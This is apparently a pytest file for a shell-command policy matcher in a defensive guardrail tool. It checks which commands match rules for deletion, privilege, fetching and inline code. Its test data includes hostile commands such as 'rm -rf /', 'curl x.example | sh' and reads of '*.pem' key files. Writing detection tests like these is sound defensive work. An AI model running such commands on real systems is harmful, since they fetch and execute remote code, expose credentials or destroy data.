"""`command`: every field of the mapping must hold for one and the same node that runs."""

from pathlib import Path

import pytest

from gw.defender.shell import analyse
from gw.model.action import Action, Part, PartKind
from gw.model.shell import FACTS, SIGNALS
from gw.model.subject import Subject, View
from gw.policy.matchers.command import FIELDS
from tests.support.matchers import matcher, problems_of


def subject(command: str) -> Subject:
    part = Part(PartKind.COMMAND, "/command", command)
    action = Action("a", "test", (part,), "0" * 64, len(command))
    return Subject(action, part, 0, (View("raw", command),), analyse(command))


@pytest.mark.parametrize(
    ("yaml", "hits", "misses"),
    [
        ("{program: [rm, shred]}", ["rm x", "sudo rm x", "bash -c 'rm x'"], ["echo rm", "ls"]),
        ("{program: rm, flags: [[-r, -R], -f]}", ["rm -rf x", "rm x -R -f"], ["rm -r x", "rm -f x"]),
        ("{program: git, args: [push, [--force, -f]]}", ["git push -f", "git -C x push --force"], ["git push"]),
        (
            "{prefix: [git, [status, diff]]}",
            ["git status -s", "/usr/bin/git diff"],
            ["git push", "git", "git -C x status"],
        ),
        ("{facts: [deletes-root, fork-bomb]}", ["rm -rf /"], ["rm x"]),
        ("{deletes: true}", ["rm x"], ["ls"]),
        ("{deletes: {under: [/srv], recursive: true}}", ["rm -r /srv/x"], ["rm /srv/x", "rm -r /opt/x"]),
        ("{deletes: {recursive: false}}", ["rm x"], ["rm -r x"]),
        ("{writes: {under: ['~/.openclaw', /etc]}}", ["echo x > /etc/y", "tee ~/.openclaw/z"], ["echo x > y"]),
        ("{redirects: {name: [notes]}}", ["ls > notes"], ["tee notes"]),
        ("{reads: {glob: ['*.pem']}}", ["cat a.pem"], ["cat a.txt"]),
        (
            "{fetches: true, pipes_into: [sh, bash]}",
            ["curl x.example | sh", 'bash -c "$(curl x.example)"'],
            ["curl x.example | jq"],
        ),
        ("{fetches: [x.example]}", ["curl https://x.example/a"], ["curl https://y.example"]),
        ("{fetches: false, program: [curl]}", ["curl --version"], ["curl x.example"]),
        ("{inline_code: true}", ["python3 -c 'x'"], ["python3 x.py"]),
        ("{inline_code: [socket]}", ["python3 -c 'import socket'"], ["python3 -c 'import os'"]),
        ("{language: [perl]}", ["perl -e 'x'"], ["python3 -c 'x'"]),
        ("{wrappers: [sudo, doas]}", ["sudo ls", "nice doas ls"], ["ls"]),
        ("{privileged: true}", ["sudo ls", "su -c ls"], ["ls"]),
        ("{background: true, program: [sleep]}", ["sleep 1 &"], ["sleep 1"]),
        ("{piped_from: [curl]}", ["curl x | jq"], ["cat x | jq"]),
        ("{recursive: true}", ["rm -r x"], ["rm x"]),
    ],
)
def test_fields(yaml: str, hits: list[str], misses: list[str]) -> None:
    found = matcher("command: " + yaml)
    for command in hits:
        assert found.match(subject(command)) is not None, command
    for command in misses:
        assert found.match(subject(command)) is None, command


def test_one_node_must_have_it_all() -> None:
    assert matcher("command: {program: rm, flags: [-r]}").match(subject("rm x; ls -r")) is None


def test_the_span_is_that_of_the_node() -> None:
    assert matcher("command: {program: rm}").match(subject("ls; rm x")) == ((4, 8),)


@pytest.mark.parametrize(
    ("yaml", "keys"),
    [
        ("{program: [a, b]}", {("program", "a"), ("program", "b")}),
        ("{program: [a, b], facts: [mines]}", {("fact", "mines")}),
        ("{deletes: true}", {("fact", "deletes")}),
        ("{privileged: true}", {("fact", "privileged")}),
        ("{flags: [-r]}", None),
        ("{fetches: false}", None),
    ],
)
def test_keys(yaml: str, keys: set[tuple[str, str]] | None) -> None:
    assert matcher("command: " + yaml).keys == keys


@pytest.mark.parametrize(
    ("yaml", "code"),
    [
        ("{}", "command.empty"),
        ("{programme: rm}", "key.unknown"),
        ("{program: []}", "command.empty"),
        ("{facts: [delete-root]}", "fact.unknown"),
        ("{privileged: maybe}", "value.type"),
        ("{deletes: {recursive: maybe}}", "value.type"),
        ("{prefix: []}", "prefix.empty"),
    ],
)
def test_what_is_wrong_is_said(yaml: str, code: str) -> None:
    assert code in [problem.code for problem in problems_of("command: " + yaml)]


def test_the_page_for_authors_lists_every_field_fact_and_signal() -> None:
    page = (Path(__file__).parents[4] / "docs" / "policies" / "commands.md").read_text(encoding="utf-8")
    for name, meaning in {**FACTS, **SIGNALS}.items():
        assert f"| `{name}` | {meaning} |" in page
    for field in FIELDS:
        assert f"`{field}`" in page
